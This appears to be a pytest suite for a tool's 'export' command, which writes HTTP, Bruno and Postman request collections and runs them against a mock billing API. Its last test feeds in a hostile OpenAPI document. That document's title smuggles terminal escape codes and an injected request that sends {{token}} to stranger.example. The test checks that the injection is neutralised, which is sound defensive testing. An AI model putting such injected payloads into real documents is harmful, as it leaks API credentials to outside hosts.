"""``counterfoil export``: the usual tools open its files, and each request gets the expected response."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from tests.specs.tools import ROOT, npx

from counterfoil.app import build
from counterfoil.cli import main
from counterfoil.lookup import own_api
from counterfoil.serving import listen, origin_of, serve_in_thread

NEWMAN, BRUNO, HTTPYAC = "newman@6.2.2", "@usebruno/cli@4.1.0", "httpyac@6.16.7"
BOATHOUSE = ROOT / "tests" / "own_documents" / "documents" / "boathouse.yaml"
APIS = ("oracle-brm", "billingplatform", "flexprice")
REQUESTS = 2 + 7 + 8 + 6 + 8
"""Of the world, of the three APIs, of the document; one for each operation."""


def export(folder: Path, *options: str, form: str = "http") -> Result:
    return CliRunner().invoke(main, ["export", str(folder), "--format", form, *options])


@pytest.fixture
def origin() -> Iterator[str]:
    """A server of the scenario and the document that are exported."""
    own = own_api(BOATHOUSE, "boathouse", rows=25, seed=0)
    listener = listen("127.0.0.1", 0)
    stop = serve_in_thread(build(APIS, own=(own,), scenario_name="late-payer").asgi_app, listener)
    yield origin_of(listener)
    stop()


def exported(folder: Path, form: str, origin: str) -> Path:
    options = ["--scenario", "late-payer", "--customer", "tardy", "--spec", str(BOATHOUSE), "--url", origin]
    done = export(folder, *APIS, *options, form=form)
    assert done.exit_code == 0, done.output
    assert f"{folder}: {REQUESTS} requests in " in done.output
    return folder


def test_newman_runs_the_postman_collection_again_and_again(tmp_path: Path, origin: str) -> None:
    folder = exported(tmp_path / "made", "postman", origin)
    (file,) = folder.iterdir()
    command = [
        "newman",
        "run",
        file,
        "-n",
        "2",
        "--reporters",
        "json",
        "--reporter-json-export",
        tmp_path / "result.json",
    ]
    done = npx(*command, packages=(NEWMAN,), cwd=folder)
    stats = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))["run"]["stats"]
    assert (stats["requests"]["total"], stats["assertions"]["total"]) == (2 * REQUESTS, 2 * REQUESTS)
    assert (stats["requests"]["failed"], stats["assertions"]["failed"], done.returncode) == (0, 0, 0)


def test_bruno_runs_its_collection(tmp_path: Path, origin: str) -> None:
    folder = exported(tmp_path / "made", "bruno", origin)
    command = ["bru", "run", "--env", "counterfoil", "--reporter-json", tmp_path / "result.json"]
    done = npx(*command, packages=(BRUNO,), cwd=folder)
    assert done.returncode == 0, done.stdout
    (run,) = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))
    assert (run["summary"]["passedRequests"], run["summary"]["passedAssertions"]) == (REQUESTS, REQUESTS)


def test_httpyac_sends_the_http_files_and_each_answer_has_the_status_that_stands_above_it(
    tmp_path: Path, origin: str
) -> None:
    folder = exported(tmp_path / "made", "http", origin)
    names = ["world.http", *sorted(each.name for each in folder.iterdir() if each.name != "world.http")]
    assert names == ["world.http", "billingplatform.http", "boathouse.http", "flexprice.http", "oracle-brm.http"]
    text = "".join((folder / name).read_text(encoding="utf-8") for name in names)
    wanted = re.findall(r"answered with (\d+)$", text, re.MULTILINE)
    assert len(wanted) == REQUESTS
    assert "counterfoil-key" not in re.sub(r"^@token = .*$", "", text, flags=re.MULTILINE)

    done = npx("httpyac", "send", *names, "--all", "--output", "short", packages=(HTTPYAC,), cwd=folder)
    assert re.findall(r"^=> (\d+) ", done.stdout, re.MULTILINE) == wanted
    assert set(wanted) == {"200", "201", "204"}


def test_the_ids_are_those_of_the_customer_that_is_named(tmp_path: Path) -> None:
    done = export(tmp_path / "made", "flexprice", "--scenario", "late-payer", "--customer", "tardy", "--world", "blue")
    assert done.exit_code == 0, done.output
    text = (tmp_path / "made" / "flexprice.http").read_text(encoding="utf-8")
    assert "GET {{host}}/w/blue/flexprice/v1/customers/cust_00000003/invoices/summary\nx-api-key: {{token}}\n" in text
    assert "GET {{host}}/w/blue/flexprice/v1/customers/external/tardy\n" in text
    assert "POST {{host}}/_sandbox/v1/worlds/blue/reset\n" in (tmp_path / "made" / "world.http").read_text(
        encoding="utf-8"
    )


MARINA = """
openapi: 3.0.3
info: {title: Marina, version: "1"}
paths:
  /boats:
    post:
      requestBody: {required: true, content: {application/json: {schema: {type: object, properties: {name: {type: string}}}}}}
      responses: {"201": {description: made, content: {application/json: {schema: {$ref: "#/components/schemas/Boat"}}}}}
  /boats/{id}:
    parameters: [{name: id, in: path, required: true, schema: {type: string}}]
    get: {responses: {"200": {description: one, content: {application/json: {schema: {$ref: "#/components/schemas/Boat"}}}}}}
  /trips:
    post:
      requestBody: {required: true, content: {application/json: {schema: {$ref: "#/components/schemas/Trip"}}}}
      responses: {"201": {description: made, content: {application/json: {schema: {$ref: "#/components/schemas/Trip"}}}}}
components:
  schemas:
    Boat: {type: object, required: [id], properties: {id: {type: string, format: uuid}, name: {type: string}}}
    Trip:
      type: object
      required: [boat_id]
      properties: {id: {type: string, format: uuid, readOnly: true}, boat_id: {type: string, format: uuid}}
"""


def test_a_request_names_what_an_earlier_one_created(tmp_path: Path) -> None:
    """At first there is no boat; the trip is made with the boat that ``POST /boats`` created."""
    document = tmp_path / "marina.yaml"
    document.write_text(MARINA, encoding="utf-8")
    assert export(tmp_path / "made", "elevate", "--spec", str(document), "--rows", "0").exit_code == 0
    text = (tmp_path / "made" / "marina.http").read_text(encoding="utf-8")
    (boat,) = re.findall(r"^GET .*/boats/(\S+)$", text, re.MULTILINE)
    assert re.findall(r'"boat_id": "([^"]*)"', text) == [boat]


def test_a_folder_with_files_is_left_alone_unless_it_is_forced(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    (tmp_path / "world.http").write_text("old", encoding="utf-8")
    refused = export(tmp_path, "emnify", "--scenario", "quiet")
    assert refused.exit_code == 2
    assert refused.stderr == (
        f"counterfoil: {tmp_path} has files in it; name another folder, or replace files with the same names with --force\n"
    )
    assert (tmp_path / "world.http").read_text(encoding="utf-8") == "old"
    assert export(tmp_path, "emnify", "--scenario", "quiet", "--force").exit_code == 0
    assert (tmp_path / "world.http").read_text(encoding="utf-8").startswith("# The world. ")
    assert sorted(each.name for each in tmp_path.iterdir()) == ["emnify.http", "notes.txt", "world.http"]


def test_what_cannot_be_written_whole_is_not_written(tmp_path: Path, monkeypatch: Any) -> None:
    real, calls = os.open, []

    def full(path: Any, flags: int, *more: Any, **options: Any) -> int:
        if ".http." in str(path):
            calls.append(path)
            if len(calls) == 2:
                raise OSError(28, "No space left on device", str(path))
        return real(path, flags, *more, **options)

    monkeypatch.setattr(os, "open", full)
    done = export(tmp_path / "made", "emnify", "--scenario", "quiet")
    assert (done.exit_code, len(calls)) == (2, 2)
    assert "No space left on device" in done.stderr
    assert done.stderr.count("\n") == 1
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["--format", "curl"], "'curl' is not one of 'http', 'bruno', 'postman'"),
        (["--format", "http", "nix"], "there is no API 'nix'; there are: billingplatform"),
        (["--format", "http", "--scenario", "nix"], "there is no scenario 'nix'; there are: demo"),
        (
            ["--format", "http", "--customer", "nix"],
            "there is no customer 'nix'; there are 50, by number from 1 or by key",
        ),
        (["--format", "http", "--customer", "51"], "there is no customer '51'; there are 50"),
        (["--format", "http", "--world", "A/B"], "'A/B' is not a world's name"),
        (
            ["--format", "http", "--url", "localhost:8000"],
            "'localhost:8000' is not an address such as http://127.0.0.1:8000",
        ),
        (["--format", "http", "--url", "http://[::1"], "is not an address such as"),
        (["--format", "http", "--spec", "nix.yaml"], "nix.yaml"),
        (["--format", "http", "--switch", "nix=1"], "nix"),
        ([], "counterfoil export: --format is missing (see counterfoil export --help)"),
    ],
)
def test_each_wrong_option_is_refused_in_one_line_and_nothing_is_written(
    options: list[str], says: str, tmp_path: Path
) -> None:
    done = CliRunner().invoke(main, ["export", str(tmp_path / "made"), *options])
    assert (done.exit_code, done.stdout) == (2, "")
    assert says in done.stderr
    assert done.stderr.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


def test_a_file_is_no_folder(tmp_path: Path) -> None:
    (tmp_path / "made").write_text("mine", encoding="utf-8")
    done = export(tmp_path / "made", "emnify")
    assert (done.exit_code, done.stderr) == (2, f"counterfoil: {tmp_path / 'made'} is a file; name a folder\n")


def test_a_folder_below_a_file_is_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("mine", encoding="utf-8")
    done = export(tmp_path / "file" / "made", "emnify")
    assert (done.exit_code, done.stderr) == (2, f"counterfoil: {tmp_path / 'file' / 'made'}: Not a directory\n")


@pytest.mark.parametrize("form", ["http", "bruno", "postman"])
def test_a_documents_texts_add_no_request_and_steer_no_terminal(tmp_path: Path, form: str) -> None:
    """A line of its own in a title would be sent by an ``.http`` client, with the credential."""
    document = tmp_path / "hostile.yaml"
    document.write_text(
        'openapi: 3.0.3\ninfo: {title: "Fine\\e[2J\\n###\\nGET http://stranger.example/?{{token}}", version: "1"}\n'
        'paths:\n  /things:\n    get:\n      summary: "List\\e[2J\\nGET http://stranger.example/"\n'
        "      responses: {'200': {description: Things.}}\n",
        encoding="utf-8",
    )
    done = export(tmp_path / "made", "--spec", str(document), form=form)
    assert done.exit_code == 0, done.output
    written = [file.read_text(encoding="utf-8") for file in (tmp_path / "made").rglob("*") if file.is_file()]
    assert any("Fine" in each for each in written)
    for each in written:
        assert "\x1b" not in each
        assert "\\u001b" not in each
        assert not re.search(r"(^|\\n) *(GET|###) *(http://stranger|$|\\n)", each, re.MULTILINE)
